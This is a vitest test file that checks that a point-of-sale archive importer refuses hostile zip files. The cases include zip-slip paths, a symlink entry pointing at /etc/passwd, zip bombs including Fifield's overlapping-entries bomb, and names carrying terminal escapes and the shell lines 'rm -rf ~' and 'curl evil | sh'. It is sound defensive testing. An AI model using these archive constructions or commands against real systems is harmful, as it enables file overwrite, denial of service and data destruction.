import { main } from "@caisse/central";
import {
  generateSigningKey,
  serializeManifest,
  sha256Hex,
  signManifest,
  type ArchiveLimits,
  type ErrorCode,
  type Manifest,
} from "@caisse/core";
import { access, mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { inflateRawSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { BIN, runBin, runInProcess, temporaryFolder, type Captured } from "../helpers/cli.js";
import { openFiles } from "../helpers/fds.js";
import { snapshotTree } from "../helpers/tree.js";
import {
  BZIP2,
  DOS_ARCHIVE,
  DOS_REPARSE_POINT,
  FLAG_ENCRYPTED,
  HOST_DOS,
  STORE,
  buildTillZip,
  buildZip,
  centralFileHeader,
  endOfCentralDirectory,
  fifieldBomb,
  localFileHeader,
  zipCrc32,
  type HeaderFields,
  type ZipEntrySpec,
} from "../helpers/zip-builder.js";

/**
 * Every hostile archive of docs/security.md#the-checks, through `caisse-central import` as an
 * operator runs it: refused with exit 3 and the rule's code, kept byte for byte in quarantine with
 * the reason, and nothing else changed, neither in the central root nor anywhere an escaping name
 * could reach.
 *
 * Each archive carries a valid manifest of till D01 with the next sequence wherever the
 * construction allows it, so that the only thing wrong with it is the hostile part.
 */

const HEADER = "ticket;date;article;famille;quantite;montant_ttc;taux_tva\n";
/** What D01 holds before each test: imported from a good archive of sequence 1. */
const V1 = {
  "ventes.csv": `${HEADER}1;2026-11-26 10:00;A1;EPI;1;2,50;5,5\n`,
  "reglements.csv": "ticket;date;mode;montant\n1;2026-11-26 10:00;CB;2,50\n",
};
/** The data the hostile archives carry beside their hostile part: sequence 2 would be accepted. */
const V2 = {
  "ventes.csv": `${HEADER}1;2026-11-27 10:00;A1;EPI;1;2,50;5,5\n2;2026-11-27 11:00;B2;BOI;2;7,00;20\n`,
  "reglements.csv":
    "ticket;date;mode;montant\n1;2026-11-27 10:00;CB;2,50\n2;2026-11-27 11:00;ESP;7,00\n",
};
const ARCHIVE_NAME = "D01_20261127T230005_000002.zip";
/** The file name every escaping entry tries to write. */
const ESCAPED = "caisse-escaped.csv";

type Files = Readonly<Record<string, string | Buffer>>;

function manifestOf(files: Files, fields: Partial<Manifest> = {}): Manifest {
  return {
    format: "caisse-archive/1",
    kind: "sales",
    till: "D01",
    name: "Magasin 1",
    created: "2026-11-27T23:00:05+01:00",
    sequence: 2,
    previous: null,
    files: Object.entries(files).map(([path, data]) => ({
      path,
      size: Buffer.byteLength(data),
      sha256: sha256Hex(data),
    })),
    ...fields,
  };
}

/** A zip of `entries` after a valid manifest of D01, sequence 2, listing `listed`. */
function tillZip(entries: readonly ZipEntrySpec[], listed: Files = V2): Buffer {
  return buildZip([
    { name: "caisse-manifest.json", data: serializeManifest(manifestOf(listed)) },
    ...entries,
  ]);
}

/** V2's entries under a manifest of sequence 2 with `fields` changed; stored, so no ratio rule. */
function tillZipWith(fields: Partial<Manifest>): Buffer {
  return buildZip([
    {
      name: "caisse-manifest.json",
      data: serializeManifest(manifestOf(V2, fields)),
      method: STORE,
    },
    ...entriesOf(V2),
  ]);
}

function entriesOf(files: Files): ZipEntrySpec[] {
  return Object.entries(files).map(([name, data]) => ({ name, data }));
}

/** V2's files, then `extra`: the manifest lists V2 only. */
function withExtra(...extra: ZipEntrySpec[]): Buffer {
  return tillZip([...entriesOf(V2), ...extra]);
}

/** V2 with its `ventes.csv` entry changed by `change`. */
function withVentes(change: Partial<ZipEntrySpec>, listed: Files = V2): Buffer {
  return tillZip(
    [
      { name: "ventes.csv", data: V2["ventes.csv"], ...change },
      ...entriesOf({ "reglements.csv": V2["reglements.csv"] }),
    ],
    listed,
  );
}

/**
 * Fifield's overlapping bomb (quoted overlap) with a manifest of D01 appended after the bomb's data,
 * listing every bomb file with the size and SHA-256 a naive reader would extract.
 */
function fifieldBombWithManifest(): Buffer {
  const bomb = fifieldBomb({ files: 10, kernelBytes: 1024 * 1024 });
  const end = bomb.length - 22;
  const directorySize = bomb.readUInt32LE(end + 12);
  const directoryOffset = bomb.readUInt32LE(end + 16);
  const data = bomb.subarray(0, directoryOffset);
  const directory = bomb.subarray(directoryOffset, directoryOffset + directorySize);
  const files: Record<string, Buffer> = {};
  for (let position = 0; position < directory.length;) {
    const nameLength = directory.readUInt16LE(position + 28);
    const extraLength = directory.readUInt16LE(position + 30);
    const commentLength = directory.readUInt16LE(position + 32);
    const name = directory.toString("utf8", position + 46, position + 46 + nameLength);
    const local = directory.readUInt32LE(position + 42);
    const start = local + 30 + data.readUInt16LE(local + 26) + data.readUInt16LE(local + 28);
    files[name] = inflateRawSync(data.subarray(start));
    position += 46 + nameLength + extraLength + commentLength;
  }
  const manifest = serializeManifest(manifestOf(files));
  const fields: HeaderFields = {
    versionMadeBy: (3 << 8) | 20,
    versionNeeded: 20,
    flags: 0,
    method: STORE,
    crc32: zipCrc32(manifest),
    compressedSize: manifest.length,
    uncompressedSize: manifest.length,
    name: Buffer.from("caisse-manifest.json"),
    extra: Buffer.alloc(0),
    comment: Buffer.alloc(0),
    internalAttributes: 0,
    externalAttributes: ((0o100644 << 16) | DOS_ARCHIVE) >>> 0,
    localHeaderOffset: data.length,
  };
  const manifestRecord = Buffer.concat([localFileHeader(fields), manifest]);
  const newDirectory = Buffer.concat([centralFileHeader(fields), directory]);
  return Buffer.concat([
    data,
    manifestRecord,
    newDirectory,
    endOfCentralDirectory({
      entryCount: Object.keys(files).length + 1,
      centralDirectorySize: newDirectory.length,
      centralDirectoryOffset: data.length + manifestRecord.length,
    }),
  ]);
}

interface HostileCase {
  /** The row's title. */
  what: string;
  zip: () => Buffer;
  code: ErrorCode;
  /** What the output must say besides the code: the entry's name as quoted, or the problem. */
  shows: string;
  /** limits in caisse-central.json for this case. */
  limits?: Partial<ArchiveLimits>;
  /** An entry name that tries to leave the till's directory: where it would land must not exist. */
  escape?: string;
}

const slip = (name: string): HostileCase => ({
  what: `zip-slip '${name}'`,
  zip: () => withExtra({ name, data: "ticket;date\n666;2026-11-27\n" }),
  code: "E_ARCHIVE_UNSAFE_PATH",
  shows: `'${name}'`,
  escape: name,
});

const CASES: HostileCase[] = [
  slip(`../${ESCAPED}`),
  slip(`/etc/${ESCAPED}`),
  slip(`C:\\${ESCAPED}`),
  slip(`C:${ESCAPED}`),
  slip(`a\\${ESCAPED}`),
  slip(`\\\\server\\share\\${ESCAPED}`),
  slip(`//server/share/${ESCAPED}`),
  slip(`a/../../${ESCAPED}`),
  slip(`../../../${ESCAPED}`),
  {
    what: "a control character in a name",
    zip: () => withExtra({ name: "ventes\u0007.csv", data: "x" }),
    code: "E_ARCHIVE_UNSAFE_PATH",
    shows: "'ventes\\u0007.csv'",
  },
  {
    what: "a Windows reserved name",
    zip: () => withExtra({ name: "CON", data: "x" }),
    code: "E_ARCHIVE_UNSAFE_PATH",
    shows: "'CON'",
  },
  {
    what: "a trailing dot",
    zip: () => withExtra({ name: "clotures.csv.", data: "x" }),
    code: "E_ARCHIVE_UNSAFE_PATH",
    shows: "'clotures.csv.'",
  },
  {
    what: "a component over 255 bytes",
    zip: () => withExtra({ name: `${"é".repeat(128)}.csv`, data: "x" }),
    code: "E_ARCHIVE_UNSAFE_PATH",
    shows: "longer than 255 bytes",
  },
  {
    what: "a symlink entry",
    zip: () => withExtra({ name: "passwd.csv", data: "../../../../etc/passwd", mode: 0o120777 }),
    code: "E_ARCHIVE_LINK",
    shows: "'passwd.csv'",
  },
  {
    what: "a Windows reparse point (junction)",
    zip: () =>
      withExtra({
        name: "junction.csv",
        data: "C:\\Windows",
        versionMadeBy: (HOST_DOS << 8) | 20,
        externalAttributes: DOS_ARCHIVE | DOS_REPARSE_POINT,
      }),
    code: "E_ARCHIVE_LINK",
    shows: "'junction.csv'",
  },
  {
    what: "a FIFO entry",
    zip: () => withExtra({ name: "fifo.csv", mode: 0o010644 }),
    code: "E_ARCHIVE_ENTRY_TYPE",
    shows: "'fifo.csv'",
  },
  {
    what: "the same name twice",
    zip: () =>
      withExtra({ name: "ventes.csv", data: `${HEADER}9;2026-11-27 12:00;Z;Z;1;999,00;20\n` }),
    code: "E_ARCHIVE_DUPLICATE_NAME",
    shows: "'ventes.csv'",
  },
  {
    what: "names that collide once case is folded",
    zip: () => {
      const files = { ...V2, "VENTES.CSV": `${HEADER}9;2026-11-27 12:00;Z;Z;1;999,00;20\n` };
      return tillZip(entriesOf(files), files);
    },
    code: "E_ARCHIVE_DUPLICATE_NAME",
    shows: "'VENTES.CSV'",
  },
  {
    what: "names that collide once NFC-normalised",
    zip: () => {
      const files = { ...V2, "\u00e9t\u00e9.csv": "nfc", "e\u0301te\u0301.csv": "nfd" };
      return tillZip(entriesOf(files), files);
    },
    code: "E_ARCHIVE_DUPLICATE_NAME",
    shows: "'e\u0301te\u0301.csv'",
  },
  {
    what: "a manifest name in another case",
    zip: () => withExtra({ name: "CAISSE-MANIFEST.JSON", data: "{}" }),
    code: "E_ARCHIVE_RESERVED_NAME",
    shows: "'CAISSE-MANIFEST.JSON'",
  },
  {
    what: "a local header naming another file than the central directory",
    zip: () => withVentes({ local: { name: Buffer.from(`../${ESCAPED}`) } }),
    code: "E_ARCHIVE_HEADER_MISMATCH",
    shows: "'ventes.csv'",
    escape: `../${ESCAPED}`,
  },
  {
    what: "a wrong CRC",
    zip: () => withVentes({ crc32: 0xdeadbeef }),
    code: "E_ARCHIVE_CRC",
    shows: "'ventes.csv'",
  },
  {
    what: "a truncated zip",
    zip: () => {
      const { zip } = buildTillZip(V2, { manifest: { sequence: 2 } });
      return zip.subarray(0, Math.floor(zip.length / 2));
    },
    code: "E_ARCHIVE_TRUNCATED",
    shows: "truncated",
  },
  {
    what: "a zip cut inside its central directory",
    zip: () => {
      const { zip } = buildTillZip(V2, { manifest: { sequence: 2 } });
      return zip.subarray(0, zip.length - 30);
    },
    code: "E_ARCHIVE_TRUNCATED",
    shows: "truncated",
  },
  {
    what: "a zero-byte file",
    zip: () => Buffer.alloc(0),
    code: "E_ARCHIVE_NOT_ZIP",
    shows: "empty (0 bytes)",
  },
  {
    what: "an HTML page named .zip",
    zip: () =>
      Buffer.from(
        "<!DOCTYPE html>\n<html><head><title>Session expired</title></head><body>Please log in</body></html>\n",
      ),
    code: "E_ARCHIVE_NOT_ZIP",
    shows: "an HTML page",
  },
  {
    what: "an encrypted entry",
    zip: () => withVentes({ flags: FLAG_ENCRYPTED }),
    code: "E_ARCHIVE_ENCRYPTED",
    shows: "'ventes.csv'",
  },
  {
    what: "a bzip2 entry",
    zip: () =>
      withVentes({
        method: BZIP2,
        payload: Buffer.from("BZh91AY&SY not really bzip2 data"),
      }),
    code: "E_ARCHIVE_METHOD",
    shows: "'ventes.csv'",
  },
  {
    what: "a ratio bomb",
    zip: () => {
      const files = { ...V2, "ventes.csv": Buffer.alloc(16 * 1024 * 1024) };
      return tillZip(entriesOf(files), files);
    },
    code: "E_ARCHIVE_RATIO",
    shows: "'ventes.csv'",
  },
  {
    what: "an overlapping-entries bomb (Fifield's)",
    zip: fifieldBombWithManifest,
    code: "E_ARCHIVE_OVERLAP",
    shows: "'ventes-0001.csv'",
  },
  {
    what: "two entries sharing one local header",
    zip: () => {
      const files = { ...V2, "copie.csv": V2["ventes.csv"] };
      return tillZip(
        [...entriesOf(V2), { name: "copie.csv", data: V2["ventes.csv"], localHeaderOf: 1 }],
        files,
      );
    },
    code: "E_ARCHIVE_OVERLAP",
    shows: "'copie.csv'",
  },
  {
    what: "a size lie (more content than declared)",
    zip: () =>
      withVentes({ uncompressedSize: 10 }, { ...V2, "ventes.csv": V2["ventes.csv"].slice(0, 10) }),
    code: "E_ARCHIVE_SIZE_MISMATCH",
    shows: "'ventes.csv'",
  },
  {
    what: "a size lie (less content than declared)",
    zip: () =>
      withVentes(
        { uncompressedSize: V2["ventes.csv"].length + 100 },
        { ...V2, "ventes.csv": `${V2["ventes.csv"]}${"x".repeat(100)}` },
      ),
    code: "E_ARCHIVE_SIZE_MISMATCH",
    shows: "'ventes.csv'",
  },
  {
    what: "too many entries (limits.maxEntries 3)",
    zip: () => {
      const files = { ...V2, "clotures.csv": "date;total_ttc\n2026-11-27;9,50\n" };
      return tillZip(entriesOf(files), files);
    },
    code: "E_ARCHIVE_TOO_MANY_ENTRIES",
    shows: "limits.maxEntries",
    limits: { maxEntries: 3 },
  },
  {
    what: "a path over 240 characters",
    zip: () => withExtra({ name: `${"a".repeat(200)}/${"b".repeat(41)}`, data: "x" }),
    code: "E_ARCHIVE_PATH_TOO_LONG",
    shows: "the path is longer than 240 characters (limits.maxPathLength)",
  },
  {
    what: "a path of 17 levels",
    zip: () => withExtra({ name: `${"d/".repeat(16)}x.csv`, data: "x" }),
    code: "E_ARCHIVE_PATH_TOO_LONG",
    shows: "the path has more than 16 levels (limits.maxPathDepth)",
  },
  {
    what: "a folder deeper than the system allows (17 components of 250 bytes)",
    zip: () => withExtra({ name: `${"f".repeat(250)}/`.repeat(17) }),
    code: "E_ARCHIVE_PATH_TOO_LONG",
    shows: "limits.maxPathLength",
  },
  {
    what: "a path deeper than limits.maxPathDepth 2",
    zip: () => withExtra({ name: "2026/11/clotures.csv", data: "x" }),
    code: "E_ARCHIVE_PATH_TOO_LONG",
    shows: "the path has more than 2 levels (limits.maxPathDepth)",
    limits: { maxPathDepth: 2 },
  },
  {
    what: "a folder entry that holds no listed file",
    zip: () => withExtra({ name: "vide/" }),
    code: "E_MANIFEST_MISMATCH",
    shows: "folder 'vide/' is in the archive but holds no file the manifest lists",
  },
  {
    what: "a manifest whose till name is 100 KB",
    zip: () => tillZipWith({ name: "x".repeat(100_000) }),
    code: "E_MANIFEST_INVALID",
    shows: "a string is longer than 1024 characters (limits.maxManifestString)",
  },
  {
    what: "a manifest over limits.maxManifestBytes 300",
    zip: () => tillZipWith({}),
    code: "E_MANIFEST_INVALID",
    shows: "at most 300 bytes is read",
    limits: { maxManifestBytes: 300 },
  },
  {
    what: "a created date of 30 February",
    zip: () => tillZipWith({ created: "2026-02-30T23:00:05+01:00" }),
    code: "E_MANIFEST_INVALID",
    shows: "created is '2026-02-30T23:00:05+01:00', expected a real date and time",
  },
  {
    what: "a created date in 2999",
    zip: () => tillZipWith({ created: "2999-11-27T23:00:05+01:00" }),
    code: "E_ARCHIVE_CLOCK",
    shows: "created at 2999-11-27T23:00:05+01:00, more than a day after the central's time",
  },
  {
    what: "a manifest listing a file the archive lacks",
    zip: () => tillZip(entriesOf(V2), { ...V2, "clotures.csv": "date;total_ttc\n" }),
    code: "E_MANIFEST_MISMATCH",
    shows: "'clotures.csv' is in the manifest but not in the archive",
  },
  {
    what: "an entry the manifest does not list",
    zip: () => withExtra({ name: "clotures.csv", data: "date;total_ttc\n" }),
    code: "E_MANIFEST_MISMATCH",
    shows: "'clotures.csv' is in the archive but not in the manifest",
  },
  {
    what: "a manifest with a wrong size",
    zip: () => tillZip(entriesOf(V2), { ...V2, "ventes.csv": `${V2["ventes.csv"]}3;x\n` }),
    code: "E_MANIFEST_MISMATCH",
    shows: "'ventes.csv': the manifest says",
  },
  {
    what: "a manifest with a wrong SHA-256",
    zip: () =>
      tillZip(entriesOf(V2), { ...V2, "ventes.csv": V2["ventes.csv"].replace("7,00", "9,00") }),
    code: "E_MANIFEST_MISMATCH",
    shows: "'ventes.csv': the manifest says SHA-256",
  },
];

// ---------------------------------------------------------------------------------------------

let work: { path: string; remove: () => Promise<void> };
let root: string;
const inProcess = (...argv: string[]): Promise<Captured> =>
  runInProcess(main, ["--root", root, ...argv], work.path);
const throughBin = (...argv: string[]): Promise<Captured> =>
  runBin(BIN.central, ["--root", root, ...argv], { cwd: work.path });

beforeEach(async () => {
  work = await temporaryFolder("caisse-hostile-");
  root = join(work.path, "central");
  expect((await inProcess("init")).code).toBe(0);
  expect((await inProcess("tills", "add", "D01", "--name", "Magasin 1")).code).toBe(0);
  const good = join(work.path, "good", "D01_20261126T230005_000001.zip");
  await mkdir(join(work.path, "good"));
  await writeFile(
    good,
    buildTillZip(V1, { manifest: { created: "2026-11-26T23:00:05+01:00" } }).zip,
  );
  const first = await inProcess("import", good);
  expect(first.stderr).not.toContain("rejected");
  expect(first.code).toBe(0);
});
afterEach(async () => work.remove());

async function exists(path: string): Promise<boolean> {
  return access(path).then(
    () => true,
    () => false,
  );
}

/**
 * Everywhere an entry name could land if an extractor took it at face value: against the staging
 * folder, the till's directory, the root and the folders above, with `\` read as a separator or
 * not, and as an absolute path.
 */
function landingPlaces(name: string): string[] {
  const slashed = name.replaceAll("\\", "/");
  const bases = [
    join(root, "tills", "D01.caisse-new"),
    join(root, "tills", "D01"),
    join(root, "tills"),
    root,
    work.path,
    tmpdir(),
  ];
  const places = bases.flatMap((base) => [resolve(base, name), resolve(base, slashed)]);
  places.push(resolve("/", slashed), resolve("/", slashed.replace(/^[A-Za-z]:/u, "")));
  return [...new Set(places)];
}

/** The snapshot of the whole test folder, without what a refusal is expected to change. */
function withoutExpectedChanges(snapshot: Record<string, string>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(snapshot).filter(
      ([path]) =>
        !path.startsWith("central/quarantine/") &&
        path !== "central/journal.jsonl" &&
        path !== "central/journal.head.json" &&
        path !== "central/.caisse" &&
        !path.startsWith("central/.caisse/"),
    ),
  );
}

interface JournalLine {
  n: number;
  outcome: string;
  code: string | null;
  file: string;
  stored: string | null;
}

async function journal(): Promise<JournalLine[]> {
  return (await readFile(join(root, "journal.jsonl"), "utf8"))
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as JournalLine);
}

async function expectRefused(
  row: HostileCase,
  run: (...argv: string[]) => Promise<Captured>,
): Promise<void> {
  if (row.limits !== undefined) {
    const configPath = join(root, "caisse-central.json");
    const config = JSON.parse(await readFile(configPath, "utf8")) as { limits: object };
    config.limits = { ...config.limits, ...row.limits };
    await writeFile(configPath, JSON.stringify(config, null, 2));
  }
  const bytes = row.zip();
  const incoming = join(work.path, "incoming", ARCHIVE_NAME);
  await mkdir(join(work.path, "incoming"));
  await writeFile(incoming, bytes);

  const tillDir = join(root, "tills", "D01");
  const tillBefore = await snapshotTree(tillDir);
  expect(Object.keys(tillBefore).sort()).toEqual(["reglements.csv", "ventes.csv"]);
  const before = await snapshotTree(work.path);
  const places = row.escape === undefined ? [] : landingPlaces(row.escape);
  for (const place of places) expect(await exists(place), place).toBe(false);
  const journalBefore = await journal();

  const result = await run("import", incoming);

  // Exit 3, the rule's code and what it is about, in the summary and in the log.
  expect(result.code, result.stderr).toBe(3);
  for (const output of [result.stdout, result.stderr]) {
    expect(output).toContain(row.code);
    expect(output).toContain(row.shows);
  }

  // In quarantine byte for byte, with the reason beside it.
  expect((await readdir(join(root, "quarantine"))).sort()).toEqual([
    ARCHIVE_NAME,
    `${ARCHIVE_NAME}.txt`,
  ]);
  expect((await readFile(join(root, "quarantine", ARCHIVE_NAME))).equals(bytes)).toBe(true);
  const reason = await readFile(join(root, "quarantine", `${ARCHIVE_NAME}.txt`), "utf8");
  expect(reason).toContain(`code: ${row.code}`);
  expect(reason).toMatch(/^reason: .+$/mu);
  expect(reason).toContain(row.shows);
  expect(reason).toContain(`sha256: ${sha256Hex(bytes)}`);

  // Nothing else changed, inside the root or out of it; the file given stays where it was.
  const after = await snapshotTree(work.path);
  expect(withoutExpectedChanges(after)).toEqual(withoutExpectedChanges(before));
  expect(Object.keys(after).filter((path) => path.includes(".caisse-"))).toEqual([]);
  expect(await snapshotTree(tillDir)).toEqual(tillBefore);
  expect(await readFile(join(tillDir, "ventes.csv"), "utf8")).toBe(V1["ventes.csv"]);
  for (const place of places) expect(await exists(place), place).toBe(false);
  expect(await exists(join(root, ".caisse", "central.lock"))).toBe(false);
  expect(await openFiles()).not.toContain(incoming);

  // One more journal line, `rejected` with the code, and the chain still holds.
  const journalAfter = await journal();
  expect(journalAfter.slice(0, -1)).toEqual(journalBefore);
  expect(journalAfter.at(-1)).toMatchObject({
    n: journalBefore.length + 1,
    outcome: "rejected",
    code: row.code,
    file: ARCHIVE_NAME,
    stored: `quarantine/${ARCHIVE_NAME}`,
  });
  const verify = await inProcess("journal", "--verify");
  expect(verify.code).toBe(0);
  expect(verify.stdout).toContain("hash chain verified");
}

describe("caisse-central import refuses hostile archives", () => {
  it("accepts the same construction without its hostile part (the control)", async () => {
    expect(withVentes({}).equals(withExtra())).toBe(true);
    const file = join(work.path, ARCHIVE_NAME);
    await writeFile(file, withExtra());
    const result = await inProcess("import", file);
    expect(result.stderr).not.toContain("rejected");
    expect(result.code).toBe(0);
    const expected = Object.fromEntries(
      Object.entries(V2).map(([path, data]) => [path, sha256Hex(data)]),
    );
    expect(await snapshotTree(join(root, "tills", "D01"))).toEqual(expected);
  });

  it.each(CASES.map((row) => [row.what, row] as const))(
    "%s: exit 3, quarantined, nothing else touched",
    async (_what, row) => {
      await expectRefused(row, inProcess);
    },
  );
});

describe("the built bin/caisse-central refuses hostile archives the same way", () => {
  const find = (what: string): HostileCase => {
    const row = CASES.find((candidate) => candidate.what === what);
    if (row === undefined) throw new Error(`no case '${what}'`);
    return row;
  };
  it.each([`zip-slip '../${ESCAPED}'`, "an overlapping-entries bomb (Fifield's)", "a wrong CRC"])(
    "%s",
    async (what) => {
      await expectRefused(find(what), throughBin);
    },
  );
});

describe("folder entries are covered by the signature", () => {
  it("a signed archive repacked with an extra folder is refused, and the genuine one imported", async () => {
    const key = generateSigningKey();
    expect(
      (await inProcess("tills", "add", "D02", "--name", "Magasin 2", "--key", key.publicKey)).code,
    ).toBe(0);
    const files = { ...V1, "2026/clotures.csv": "date;total_ttc\n2026-11-27;2,50\n" };
    const manifest = { till: "D02", sequence: 1 };
    const genuine = buildTillZip(files, { manifest });
    const signature = signManifest(genuine.manifestBytes, key.privateKeyPem);
    const signed = buildTillZip(files, { manifest, signature, folders: ["2026/"] }).zip;
    const repacked = buildTillZip(files, { manifest, signature, folders: ["2026/", "extra/"] }).zip;
    const name = "D02_20261127T230005_000001.zip";
    await mkdir(join(work.path, "repacked"));
    await writeFile(join(work.path, "repacked", name), repacked);
    await writeFile(join(work.path, name), signed);

    const refused = await inProcess("import", join(work.path, "repacked", name));
    expect(refused.code, refused.stderr).toBe(3);
    expect(refused.stdout).toContain(
      "folder 'extra/' is in the archive but holds no file the manifest lists",
    );
    const accepted = await inProcess("import", join(work.path, name));
    expect(accepted.code, accepted.stderr).toBe(0);
    expect(Object.keys(await snapshotTree(join(root, "tills", "D02"))).sort()).toEqual([
      "2026",
      "2026/clotures.csv",
      "reglements.csv",
      "ventes.csv",
    ]);
    expect((await journal()).slice(-2).map((line) => [line.outcome, line.code])).toEqual([
      ["rejected", "E_MANIFEST_MISMATCH"],
      ["accepted", null],
    ]);
  });
});

describe("the reason beside a quarantined archive", () => {
  it("is one value a line: control characters of a name or manifest are escaped", async () => {
    const received = "D01\u001b[31m\nwhat to do: rm -rf ~\u2028.zip";
    const name = "Magasin\u001b]0;pwn\u0007\r\nwhat to do: curl evil | sh\u202e";
    const bytes = buildTillZip(V2, { manifest: { till: "Z99", name, sequence: 2 } }).zip;
    const file = join(work.path, received);
    await writeFile(file, bytes);

    const result = await inProcess("import", file);

    expect(result.code, result.stderr).toBe(3);
    const stored = `archive-${sha256Hex(bytes).slice(0, 12)}.zip`;
    const reason = await readFile(join(root, "quarantine", `${stored}.txt`), "utf8");
    const lines = reason.split("\n");
    expect(lines.map((line) => line.slice(0, line.indexOf(":")))).toEqual([
      "archive",
      "received",
      "source",
      "received as",
      "sequence",
      "sha256",
      "size",
      "code",
      "reason",
      "what to do",
      "",
    ]);
    // Nothing unprintable but the newlines between values.
    expect(reason.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e]/u);
    expect(lines[3]).toBe("received as: D01\\u001B[31m\\u000Awhat to do: rm -rf ~\\u2028.zip");
    expect(lines[8]).toBe(
      "reason: the archive comes from till 'Z99' (Magasin\\u001B]0;pwn\\u0007\\u000D\\u000Awhat to do: curl evil | sh\\u202E), which is not registered",
    );
  });
});
